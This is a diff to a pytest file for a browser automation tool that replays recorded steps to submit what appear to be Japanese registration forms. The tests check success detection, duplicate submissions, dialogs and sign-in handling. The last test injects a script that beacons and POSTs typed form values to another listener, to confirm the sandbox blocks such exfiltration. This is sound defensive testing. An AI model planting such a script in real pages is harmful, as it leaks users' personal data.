@@ -11,7 +11,9 @@ from playwright.sync_api import Browser
 
 from rpa_bots.browser import WITH_NAMES, open_browser, walled_in
 from rpa_bots.recording.addresses import addresses
+from rpa_bots.recording.carrying import Answer
 from rpa_bots.recording.endings import Ended, Ending
+from rpa_bots.recording.proof import After, Shown, judge
 from rpa_bots.recording.reading import read_recording
 from rpa_bots.recording.replaying import replay
 from rpa_bots.recording.submit_step import submit_step
@@ -56,9 +58,9 @@ def run(address: tuple[OldPages, Browser], old: OldPages) -> Run:
     def run(content: bytes, row: dict[str, str] = ROW, dialogs: tuple[str, ...] = (), **more: bool) -> Ended:
         recording = read_recording(content)
         allowed = tuple(re.compile(re.escape(text)) for text in dialogs)
-        plan = Plan(
-            recording, addresses(recording, old.url, ()), submit_step(recording), allowed, answer_seconds=5, **more
-        )
+        there, submit = addresses(recording, old.url, ()), submit_step(recording)
+        perhaps = [place for place in perhaps_registering(recording) if place != submit]
+        plan = Plan(recording, there, submit, allowed, perhaps, answer_seconds=5, **more)
         return replay(address[1], plan, row)
 
     return run
@@ -101,6 +103,72 @@ def test_what_is_sent_goes_once_and_what_is_not_proven_is_unknown(old, run, trou
     assert (ended.ending, ended.step) == (ending, 6)
     assert len(old.stored) == stored
     assert old.asked.count("/register") == 1
+
+
+@pytest.mark.parametrize(
+    "said",
+    [
+        "登録は完了していません",
+        "整理番号が正しくありません",
+        "この方は登録済みのため登録しませんでした",
+        "受付番号を入力してください",
+        "登録は受け付けられませんでした。受付番号 000000",
+        "Registration incomplete",
+        "入力内容に誤りがあります。戻って直してください",
+        "受付時間外です",
+    ],
+)
+def test_a_page_that_says_no_in_words_of_success_is_not_done(said):
+    before, after = Shown("転入", "/entry", "氏名"), Shown("登録完了", "/register", said)
+
+    verdict = judge(After(before, after, (), (Answer(200, is_page=True),), form_is_back=False))
+
+    assert verdict is not None
+    assert verdict[0] is Ending.UNKNOWN
+
+
+def test_what_became_of_a_page_s_own_counter_says_nothing_of_the_registration():
+    before, after = Shown("転入", "/entry", ""), Shown("登録完了", "/register", "登録しました")
+    answers = (Answer(404, is_page=False), Answer(200, is_page=True))
+
+    assert judge(After(before, after, (), answers, form_is_back=False)) == (Ending.DONE, "登録しました")
+
+
+def test_of_two_buttons_that_may_register_nothing_is_tried_again_behind_either(old, run):
+    old.trouble = "cut after"
+    later = clicks("aria/送信する", timeout=500)
+
+    cut = run(move_in(clicks("aria/登録する"), later))
+    rehearsed = run(move_in(clicks("aria/登録する"), later), rehearse=True)
+
+    assert (cut.ending, rehearsed.ending, rehearsed.step) == (Ending.UNKNOWN, Ending.DONE, 6)
+    assert (len(old.stored), old.asked.count("/register")) == (1, 1)
+
+
+def test_what_is_only_pressed_goes_once_too_and_is_no_failure(old, run):
+    old.trouble = "cut after"
+
+    ended = run(tape(goes("/entry"), clicks("#n + button", "button", timeout=500)))
+
+    assert (ended.ending, old.asked.count("/register")) == (Ending.UNKNOWN, 1)
+
+
+@pytest.mark.parametrize(("value", "ticked"), [("はい", ["on"]), ("false", []), ("たぶん", None)])
+def test_a_box_is_ticked_by_words_that_mean_it_and_by_no_others(old, run, value, ticked):
+    old.form, old.labels = "", {"name": "氏名", "kana": "フリガナ</label><label><input type=checkbox name=agreed>同意"}
+
+    ended = run(tape(goes("/entry"), NAME, fills("{{同意}}", "[type=checkbox]"), REGISTER), ROW | {"同意": value})
+
+    assert ended.ending is (Ending.REFUSED if ticked is None else Ending.DONE)
+    assert [each["agreed"] for each in old.stored if "agreed" in each] == (ticked or [])
+
+
+def test_a_text_that_is_the_row_s_own_is_meant_whole(old, run):
+    old.pages = {"/list": "<title>一覧</title><a href=/entry>山田 花子</a>"}
+
+    ended = run(tape(goes("/list"), clicks("text/{{姓}}", timeout=500), NAME), ROW | {"姓": "山田"})
+
+    assert (ended.ending, ended.step) == (Ending.FAILED, 2)
 
 
 def test_where_neither_title_nor_words_tell_a_waiting_step_of_the_recording_does(old, run):
@@ -189,10 +257,12 @@ def test_only_a_dialog_that_was_allowed_is_answered_with_yes(old, run):
     old.form = "onsubmit=\"return confirm(n.value + ' を登録します')\""
 
     refused = run(move_in())
+    told = run(move_in(), tells_dialogs=True)
     done = run(move_in(), dialogs=("山田 花子 を登録します",))
 
     assert (refused.ending, done.ending, len(old.stored)) == (Ending.REFUSED, Ending.DONE, 1)
-    assert "〔氏名〕 を登録します" in refused.message
+    assert refused.message == "想定外のダイアログが表示されました"
+    assert "〔氏名〕 を登録します" in told.message
 
 
 def test_a_rehearsal_fills_all_in_and_registers_nothing(old, run):
@@ -275,7 +345,7 @@ def test_a_password_field_takes_no_column_and_a_refused_sign_in_stops_all(old, r
     old.trouble = "wrong password"
     refused = run(tape(goes("/sign-in"), fills("Invented-1", "input"), press, NAME, REGISTER, timeout=900))
 
-    assert (bound.ending, bound.stops_all) == (Ending.REFUSED, True)
+    assert (bound.ending, bound.stops_all) == (Ending.REFUSED, False)
     assert (refused.ending, refused.stops_all, refused.message) == (Ending.FAILED, True, "サインインを断られたようです")
 
 
@@ -295,7 +365,10 @@ def test_a_system_that_is_down_or_under_maintenance_is_a_failure_that_may_be_tri
 
 def test_a_page_can_not_reach_another_listener(old, run, tmp_path: Path):
     with answering(OldPages()) as elsewhere:
-        old.extra = f"<img src={elsewhere.url}/seen><script>navigator.sendBeacon('{elsewhere.url}/seen', 'x')</script>"
+        old.extra = f"""<img src={elsewhere.url}/seen><script>
+          const tell = () => {{ navigator.sendBeacon('{elsewhere.url}/seen', n.value);
+            fetch('{elsewhere.url}/seen', {{method: 'POST', body: n.value, mode: 'no-cors'}}); }};
+          tell(); k.addEventListener('input', tell);</script>"""
         old.form = f"action={elsewhere.url}/register"
 
         run(move_in())
